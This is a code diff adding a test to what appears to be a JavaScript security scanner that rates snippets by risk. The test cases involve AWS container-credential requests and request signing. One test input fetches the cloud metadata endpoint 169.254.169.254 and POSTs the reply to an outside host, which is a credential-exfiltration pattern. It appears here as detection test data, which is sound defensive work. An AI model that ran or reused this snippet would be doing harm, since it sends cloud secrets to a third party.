@@ -79,3 +79,14 @@ test('good: the groups by which devices of one network find each other; bad: oth
   for (const host of ['224.0.0.251', '239.255.255.250', '255.255.255.255']) assert.equal(worst(`const s = require("dgram").createSocket("udp4"); s.send(query, 0, 9, 5353, "${host}"); fetch("http://${host}/")`), 'low', host);
   for (const host of ['224.0.1.251', '223.0.0.251', '240.0.0.1', '192.168.1.255']) assert.equal(worst(`fetch("http://${host}/")`), 'high', host);
 });
+
+test('good: a bundle with a whole client of a cloud, which signs what it asks', () => {
+  const asks = 'const http = require("http"); const address = () => (process.env["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"] ? { hostname: "169.254.170.2", path: p } : null); http.request(address());';
+  const signs = 'const sign = (key) => `${ALGORITHM} ${key}`, ALGORITHM = "AWS4-HMAC-SHA256";';
+  const filling = `\nconst filling = "${'it is long. '.repeat(5000)}";`;
+  assert.equal(worst(asks + signs + filling), 'low');
+  assert.equal(worst(asks + signs), 'medium', 'in a small script, it is what the script does');
+  assert.equal(worst(asks + filling), 'medium', 'signs nothing');
+  assert.equal(worst(signs + asks.replace('169.254.170.2', '10.0.0.7') + filling), 'high', 'another one in the network');
+  assert.equal(worst(`${asks}${signs}${filling}fetch("http://169.254.169.254/x").then(async (r) => fetch("https://example.org", { method: "POST", body: await r.text() }));`), 'high', 'its answer goes elsewhere');
+});
